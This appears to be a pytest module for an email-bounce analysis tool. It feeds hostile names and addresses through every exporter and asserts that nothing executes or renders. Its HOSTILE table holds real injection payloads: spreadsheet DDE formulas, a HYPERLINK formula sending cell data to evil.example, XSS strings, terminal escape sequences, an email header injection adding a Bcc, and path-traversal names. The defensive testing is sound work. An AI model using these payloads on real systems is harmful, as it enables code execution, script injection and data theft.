"""What strangers write into names, replies and addresses, through the whole pipeline into every writer: it is there, it
is text, and it acts on nothing — no formula, no markup, no link, no escape, no header, no path.
"""

from __future__ import annotations

import csv
import json
import re
import unicodedata
import zipfile
from email.message import EmailMessage
from html.parser import HTMLParser
from pathlib import Path

import cmarkgfm
import openpyxl
import pytest
from output_forks import Ended, Forks

from analyzer.export.inputs import read_given
from analyzer.readable import clean, clean_lines, printable_json
from analyzer.report.markdown import escaped
from analyzer.report.rows import write_rows
from analyzer.sources.own_rows import read_own_rows
from analyzer.sources.tables import read_table

#: What a stranger may write, by what it would do.
HOSTILE: dict[str, str] = {
    "formula": '=HYPERLINK("http://evil.example/?x="&A1,"open")',
    "plus": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "full width": "＝1+1",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "line": "\n=1+1",
    "guarded": "'=1+1",
    "quotes": '"; =1+1; "',
    "script": "<script>alert(1)</script>",
    "attribute": '" onmouseover="alert(1)" x=\'',
    "image": "<img src=x onerror=alert(1)>",
    "template": "{{7*7}}{% raw %}${7*7}",
    "link": "[x](javascript:alert(1)) ![y](http://evil.example/p.png)",
    "autolink": "see https://evil.example/x and www.evil.example now",
    "table": "a | b\n|---|---|\n`c``d`",
    "entity": "&lt;script&gt;&#64;",
    "csi": "\x1b[31mred\x1b[2J",
    "osc 8": "\x1b]8;;http://evil.example\x07click\x1b]8;;\x07",
    "title": "\x1b]0;owned\x07",
    "c1": "\x9b31mred",
    "bidi": "\u202egnp.exe\u2066",
    "zero width": "pay\u200bpal\ufeff",
    "separators": "a\u2028b\u2029c",
    "header": "x\r\nBcc: victim@evil.example\r\n\r\nbody",
    "path": "../../../../etc/cron.d/owned",
    "absolute": "/etc/passwd",
    "device": "CON",
    "null": "a\x00b",
    "surrogate": "a\ud800b",
}
#: Addresses that are in order, and would act in a spreadsheet or a shell.
ADDRESSES = ("=1+1@corp.example", "+x@corp.example", "-rf@corp.example", "'=a@corp.example", "o'hara@corp.example")
ACTING = frozenset(("Cc", "Cf", "Zl", "Zp", "Cs"))
_FORMULA = re.compile(r"[\t\r\n ]*[=+@\uff1d\uff0b\uff0d\uff20-]")
#: Elements that our own Markdown makes.
_OURS = frozenset(
    ["h1", "h2", "h3", "p", "strong", "em", "code", "ol", "ul", "li", "table", "thead", "tbody", "tr", "th", "td"]
)
_NUMBER = re.compile(r"[+-]?[0-9][0-9.,:TZ+-]*")


def bounce(text: str, recipient: str, number: int) -> bytes:
    """A report of a failure in which a stranger wrote everything."""
    message = EmailMessage()
    message["From"] = "MAILER-DAEMON@mx.corp.example"
    message["To"] = "ops@ours.example"
    message["Subject"] = f"Undelivered {clean(text)}"
    message["Date"] = "Tue, 03 Mar 2026 10:00:00 +0000"
    shown = text.encode("utf-8", "replace").decode().replace("\n", " ").replace("\r", " ").replace("\0", "")
    report = (
        f"Reporting-MTA: dns; mx.corp.example\r\n\r\nFinal-Recipient: rfc822; {recipient}\r\nAction: failed\r\n"
        f"Status: 5.1.1\r\nDiagnostic-Code: smtp; 550 5.1.1 {shown} no such user\r\n"
    )
    original = f"From: ops@ours.example\r\nTo: {recipient}\r\nMessage-ID: <{number}@ours.example>\r\n\r\nhello\r\n"
    message.set_content(f"550 5.1.1 <{recipient}> {shown}")
    whole = message.as_bytes().replace(b"\n", b"\r\n")
    head, _, body = whole.partition(b"\r\n\r\n")
    head = re.sub(rb"(?im)^(content-.*|mime-version.*)\r?\n", b"", head + b"\r\n")
    parts = (
        b"--b\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n" + body.encode() if isinstance(body, str) else
        b"--b\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n" + body
    )  # fmt: skip
    return (
        head + b'MIME-Version: 1.0\r\nContent-Type: multipart/report; report-type=delivery-status; boundary="b"\r\n\r\n'
        + parts
        + b"\r\n--b\r\nContent-Type: message/delivery-status\r\n\r\n" + report.encode()
        + b"\r\n--b\r\nContent-Type: message/rfc822\r\n\r\n" + original.encode() + b"\r\n--b--\r\n"
    )  # fmt: skip


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory, forks: Forks) -> Path:
    """A campaign in which every name is hostile, diagnosed, checked, kept and exported, with all that was printed."""
    place = tmp_path_factory.mktemp("hostile")
    mails, names = place / "mail", list(HOSTILE.values())
    mails.mkdir()
    sends, leads = [], []
    for number in range(120):
        text = names[number % len(names)]
        who = ADDRESSES[number] if number < len(ADDRESSES) else f"lead{number}@corp{number % 9}.example"
        sends.append((who, "2026-03-02T09:00:00Z", text, "1", "ops@ours.example", f"<{number}@ours.example>", text))
        leads.append((who, text, "guessed" if number % 2 else "verified", text, text, text))
        if number % 2 or number < len(ADDRESSES):
            # The sender of a mail chooses the name of what is attached; whoever saved it took that.
            name = f"{number}-{re.sub('[/' + chr(0) + ']', '_', text)}"[:80].encode("utf-8", "replace").decode()
            (mails / f"{name}.eml").write_bytes(bounce(text, who, number))
    _csv(place / "log.csv", ("recipient", "sent_at", "campaign", "step", "sender", "message_id", "lead_id"), sends)
    head = ("email", "company", "email_status", "industry", "=cmd|' /C calc'!A0", "<b>Title</b>\x1b[31m")
    _csv(place / "leads.csv", head, leads)
    runs = {
        "parse": ["parse", "mail", "--out", "rows.csv", "--rejects", "rejects"],
        "lines": ["parse", "mail"],
        "diagnose": ["diagnose", "--bounces", "mail", "--log", "log.csv", "--leads", "leads.csv", "--next", "leads.csv", "--out", "report", "--jobs", "1"],
        "check": ["check", "leads.csv", "--out", "checked.csv", "--jobs", "1"],
        "sheet": ["check", "leads.csv", "--out", "checked.xlsx", "--jobs", "1"],
        "screen": ["check", "leads.csv", "--jobs", "1"],
        "ingest": ["ingest", "--workspace", "history", "--bounces", "mail", "--log", "log.csv", "--leads", "leads.csv", "--jobs", "1"],
        "info": ["workspace", "info", "--workspace", "history"],
        "weekly": ["weekly", "--workspace", "history", "--out", "weeks"],
        "suggest": ["rules", "suggest", "mail", "--least", "1", "--out", "own.toml"],
        **{f"export {kind}": ["export", kind, "report", "--out", f"lists/{kind}"] for kind in ("sendgrid", "mailgun", "hubspot", "salesforce", "apollo", "plain", "ses", "postmark", "grades")},
    }  # fmt: skip
    for name, arguments in runs.items():
        done = forks.run(*arguments, cwd=str(place))
        assert done.code == 0, (name, done.err)
        (place / f"screen {name}").write_bytes(done.out + b"\n" + done.err.encode("utf-8", "surrogateescape"))
    return place


def _csv(path: Path, head: tuple[str, ...], rows: list[tuple[str, ...]]) -> None:
    with path.open("w", encoding="utf-8", errors="replace", newline="") as file:
        # A table with NUL in it is refused as binary.
        csv.writer(file).writerows([head, *([cell.replace("\0", "") for cell in row] for row in rows)])


def written(world: Path, ending: str) -> list[Path]:
    """The files of ours with an ending."""
    inputs = {"log.csv", "leads.csv"}
    return [
        one for one in sorted(world.rglob(f"*{ending}")) if one.name not in inputs and "mail" not in one.parts[-2:-1]
    ]


def test_no_cell_of_a_csv_file_runs(world: Path) -> None:
    files = written(world, ".csv")
    assert len(files) >= 10
    for path in files:
        with path.open(encoding="utf-8", newline="") as file:
            for row in csv.reader(file):
                # Figures are figures: a date, a rate, a telephone number calls nothing.
                acting = [cell for cell in row if _FORMULA.match(cell) and not _NUMBER.fullmatch(cell)]
                assert acting == [], (path.name, acting[:2])


def test_no_cell_of_a_workbook_runs(world: Path) -> None:
    files = written(world, ".xlsx")
    assert {path.name for path in files} == {"checked.xlsx", "report.xlsx"}
    for path in files:
        book = openpyxl.load_workbook(path)
        for sheet in book:
            kinds = {cell.data_type for row in sheet.iter_rows() for cell in row}
            assert kinds <= {"s", "n", "b", "d", "inlineStr"}, (path.name, sheet.title)
            assert not any(cell.hyperlink for row in sheet.iter_rows() for cell in row)
        with zipfile.ZipFile(path) as parts:
            assert not any("externalLink" in name or "vbaProject" in name for name in parts.namelist())
            assert b"<f>" not in b"".join(parts.read(name) for name in parts.namelist())


class _Page(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def test_no_page_has_markup_of_a_stranger(world: Path) -> None:
    files = written(world, ".html")
    assert {path.name for path in files} == {"report.html", "weekly.html", "index.html"}
    for path in files:
        page = _Page()
        page.feed(path.read_text(encoding="utf-8"))
        for tag, attributes in page.tags:
            assert tag not in {"img", "iframe", "object", "embed", "base", "form", "link"}, path.name
            assert not [name for name in attributes if name.startswith("on")], (path.name, tag)
            where = attributes.get("href") or attributes.get("src") or ""
            assert where.startswith("#") or re.fullmatch(r"[\w./-]*", where), (path.name, where)
        assert sum(tag == "script" for tag, _ in page.tags) <= 1
        assert not set(map(unicodedata.category, path.read_text(encoding="utf-8").replace("\n", ""))) & ACTING


def test_no_markdown_has_a_link_or_markup_of_a_stranger(world: Path) -> None:
    """Rendered as GitHub does, with its autolinks and tables."""
    files = written(world, ".md")
    assert {path.name for path in files} == {"report.md", "weekly.md"}
    for path in files:
        page = _Page()
        html = cmarkgfm.github_flavored_markdown_to_html(path.read_text(encoding="utf-8"))
        page.feed(html)
        assert {tag for tag, found in page.tags if not (found.get("href") or "").startswith("mailto:")} <= _OURS, (
            path.name
        )
        assert "calc" in html or path.name == "weekly.md"
        rows = re.findall(r"<tr>(.*?)</tr>", html, re.DOTALL)
        assert rows


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_escaped_markdown_is_text(text: str) -> None:
    html = cmarkgfm.github_flavored_markdown_to_html(f"- {escaped(text)}")
    # An address is a link to write to it, on GitHub even where its sign is escaped.
    mails = re.sub(r'<a href="mailto:[\w.@]+">', "", html)
    assert set(re.findall(r"<(\w+)", mails)) <= {"ul", "li"}


def test_nothing_acts_on_a_terminal(world: Path) -> None:
    screens = sorted(world.glob("screen *"))
    assert len(screens) >= 19
    for path in screens:
        text = path.read_text(encoding="utf-8")
        acting = {
            character for character in text if unicodedata.category(character) in ACTING and character not in "\n"
        }
        assert acting <= {"\u200c", "\u200d"}, (path.name, acting)


def readable(ended: Ended) -> str:
    """What a run showed, in which nothing acts."""
    shown = ended.out.decode() + ended.err
    assert not {c for c in shown if unicodedata.category(c) in ACTING and c not in "\n\u200c\u200d"}, shown
    return shown


def test_nothing_acts_in_an_answer(forks: Forks, tmp_path: Path) -> None:
    lines = tmp_path / "lines.txt"
    texts = [re.sub(r"[\r\n]", " ", text).encode("utf-8", "replace") for text in HOSTILE.values()]
    lines.write_bytes(b"".join(b"550 5.1.1 no such user " + text + b"\n" for text in texts))
    for how in ([], ["--json"], ["--explain"], ["--explain", "--json"]):
        assert len(readable(forks.run("classify", *how, stdin=str(lines))).splitlines()) >= len(HOSTILE)
    readable(forks.run("parse", lines))


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_nothing_acts_in_an_error(text: str, forks: Forks) -> None:
    name = text.replace("\0", "").encode("utf-8", "replace").decode()
    done = forks.run("parse", f"/nowhere/{name}.eml")
    assert done.code == 2
    assert readable(done).count("\n") == 1


def test_no_name_from_outside_is_a_path(world: Path) -> None:
    """Names of attachments, campaigns, companies: nothing was written anywhere but where we say."""
    allowed = re.compile(r"screen [\w ]+|[\w.=-]+")
    ours = [one for one in world.rglob("*") if "mail" not in one.relative_to(world).parts[:1]]
    assert len(ours) > 60
    assert [str(one) for one in ours if not allowed.fullmatch(one.name)] == []
    weeks = {path.name for path in (world / "history" / "sends").iterdir() if path.is_dir()}
    assert weeks <= {"_delta_log", "week=2026-W10", "week=unknown"}


def test_our_own_readers_take_the_guard_off_again(tmp_path: Path) -> None:
    """A cell that would run has an apostrophe in front; each of our readers finds the very address behind it."""
    rows = [{"recipient": who, "label": "hard", "fault": "address", "reason": "user_unknown"} for who in ADDRESSES]
    path = tmp_path / "bounces.csv"
    write_rows(rows, path)
    assert "'=1+1@corp.example" in path.read_text()
    assert [row["recipient"] for row in read_own_rows(path)] == list(ADDRESSES)
    write_rows(
        [(who, "user_unknown", "address") for who in ADDRESSES], tmp_path / "s.csv", ("email", "reason", "fault")
    )
    assert read_given(tmp_path / "s.csv").rows["email"].tolist() == list(ADDRESSES)
    assert read_table(tmp_path / "s.csv", "leads").frame["email"].tolist() == list(ADDRESSES)


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_every_cell_reads_back_as_it_was(text: str, tmp_path: Path) -> None:
    whole = text.encode("utf-16-le", "surrogatepass").decode("utf-16-le", "replace")
    for ending in ("csv", "jsonl", "parquet"):
        path = tmp_path / f"rows.{ending}"
        write_rows([{"recipient": "a@b.example", "label": "hard", "reason": "x", "diagnostic": text}], path)
        assert next(iter(read_own_rows(path)))["diagnostic"] == whole
    with (tmp_path / "rows.csv").open(encoding="utf-8", newline="") as file:
        cell = next(csv.DictReader(file))["diagnostic"]
    assert not _FORMULA.match(cell)


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_text_made_readable(text: str) -> None:
    for made in (clean(text), clean_lines(text)):
        assert not {c for c in made if unicodedata.category(c) in ACTING and c not in "\n\t"}
    line = json.dumps({"a": text}, ensure_ascii=False).encode("utf-8", "replace")
    printed = printable_json(line)
    assert json.loads(printed) == json.loads(line)
    assert not {c for c in printed.decode() if unicodedata.category(c) in ACTING}


def test_a_line_of_ours_keeps_its_columns() -> None:
    assert clean_lines("a   b\n  c  \x1b[31md") == "a   b\n  c  d"
